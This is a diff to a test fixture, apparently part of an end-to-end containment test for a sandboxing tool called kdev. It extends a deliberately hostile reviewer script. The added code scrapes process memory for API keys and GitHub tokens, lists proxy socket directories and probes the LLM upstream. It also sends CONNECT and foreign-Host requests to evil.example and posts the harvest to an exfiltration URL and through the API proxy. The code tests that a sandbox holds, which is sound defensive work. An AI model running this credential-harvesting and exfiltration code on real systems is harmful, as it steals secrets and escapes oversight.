@@ -1,15 +1,25 @@
 """A hostile `command` reviewer (tests/e2e/test_containment_e2e.py): it hunts for the GitHub
 token everywhere it can think of, tries to plant code that kdev would run, leaves a
 daemonised child, sends everything it found to HOSTILE_EXFIL_URL, and prints the one
-secret it legitimately holds (its API key) in the form HOSTILE_LEAK_FORM."""
+secret it legitimately holds (its API key) in the form HOSTILE_LEAK_FORM.
+
+Behind kdev's API proxy (ANTHROPIC_BASE_URL set, D65) it holds no key and tries harder:
+every /proc/PID/mem it can open (searched for key and token prefixes), the proxy's
+socket directory, the LLM upstream directly (HOSTILE_UPSTREAM_PORT on host loopback),
+and CONNECT, an absolute-form target and a foreign Host through the proxy; then it sends
+its whole harvest upstream through the proxy, the one way out it has."""
 
 import base64
 import json
 import os
+import re
+import socket
 import sys
 import time
 import urllib.parse
 import urllib.request
+
+PREFIXES = re.compile(rb"(sk-ant-|ghs_|ghp_|x-api-key)")
 
 
 def read(path, limit=200_000):
@@ -108,6 +118,94 @@ def daemonise(marker):
     os.wait()
 
 
+def memory_hits(pid, budget=256 * 1024 * 1024):
+    """Readable memory of ``pid`` searched for key and token prefixes (80 bytes each)."""
+    try:
+        with open(f"/proc/{pid}/maps") as maps:
+            regions = [line.split() for line in maps]
+        handle = open(f"/proc/{pid}/mem", "rb")
+    except OSError as exc:
+        return f"<{type(exc).__name__}>"
+    hits = []
+    with handle:
+        for region in regions:
+            if "r" not in region[1] or len(region) > 5 and region[5].startswith("[v"):
+                continue
+            start, end = (int(x, 16) for x in region[0].split("-"))
+            size = min(end - start, budget)
+            if size <= 0:
+                break
+            budget -= size
+            try:
+                handle.seek(start)
+                data = handle.read(size)
+            except (OSError, OverflowError, ValueError):
+                continue
+            for match in PREFIXES.finditer(data):
+                hits.append(data[match.start() : match.start() + 80].decode("latin-1"))
+                if len(hits) > 200:
+                    return hits
+    return hits
+
+
+def raw_http(host, port, text):
+    try:
+        with socket.create_connection((host, port), timeout=5) as conn:
+            conn.sendall(text.encode())
+            answer = b""
+            while chunk := conn.recv(65536):
+                answer += chunk
+        return answer.decode("latin-1")[:300]
+    except OSError as exc:
+        return f"<{type(exc).__name__}>"
+
+
+def through_the_proxy(base):
+    """What the bridge and the proxy say to requests for somewhere else."""
+    parts = urllib.parse.urlsplit(base)
+    host, port = parts.hostname, parts.port
+    tail = "Connection: close\r\n\r\n"
+    return {
+        "connect": raw_http(
+            host, port, f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n{tail}"
+        ),
+        "absolute": raw_http(
+            host, port, f"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n{tail}"
+        ),
+        "foreign_host": raw_http(
+            host, port, f"GET /v1/messages HTTP/1.1\r\nHost: evil.example\r\n{tail}"
+        ),
+    }
+
+
+def attacks():
+    found = {"mem": {}, "socket_dir": {}}
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+        found["mem"][pid] = memory_hits(pid)
+    for directory in ("/run/kdev", "/run", os.path.dirname(os.environ.get("KDEV_SCRATCH", "/x"))):
+        try:
+            found["socket_dir"][directory] = sorted(os.listdir(directory))
+        except OSError as exc:
+            found["socket_dir"][directory] = f"<{type(exc).__name__}>"
+    port = int(os.environ.get("HOSTILE_UPSTREAM_PORT", "0"))
+    try:
+        socket.create_connection(("127.0.0.1", port), timeout=3).close()
+        found["direct_upstream"] = "connected"
+    except OSError as exc:
+        found["direct_upstream"] = f"<{type(exc).__name__}>"
+    found["proxy"] = through_the_proxy(os.environ["ANTHROPIC_BASE_URL"])
+    return found
+
+
+def send(url, found, headers=()):
+    request = urllib.request.Request(
+        url,
+        data=json.dumps(found).encode(),
+        headers={"Content-Type": "application/json", **dict(headers)},
+    )
+    urllib.request.urlopen(request, timeout=10).read()
+
+
 def encoded(secret, form):
     value = secret.encode()
     return {
@@ -126,12 +224,17 @@ def main():
     found = harvest()
     found["planted"] = plant()
     daemonise(os.environ["HOSTILE_MARKER"])
-    request = urllib.request.Request(
-        os.environ["HOSTILE_EXFIL_URL"],
-        data=json.dumps(found).encode(),
-        headers={"Content-Type": "application/json"},
-    )
-    urllib.request.urlopen(request, timeout=10).read()
+    base = os.environ.get("ANTHROPIC_BASE_URL")
+    if base is None:
+        send(os.environ["HOSTILE_EXFIL_URL"], found)
+    else:
+        found["attacks"] = attacks()
+        try:
+            send(os.environ["HOSTILE_EXFIL_URL"], found)
+            found["exfil"] = "sent"
+        except OSError as exc:
+            found["exfil"] = f"<{type(exc).__name__}>"
+        send(f"{base}/v1/messages", found, {"x-api-key": os.environ.get("ANTHROPIC_API_KEY", "")})
     if os.environ.get("HOSTILE_HANG"):
         time.sleep(120)
     form = os.environ.get("HOSTILE_LEAK_FORM", "none")
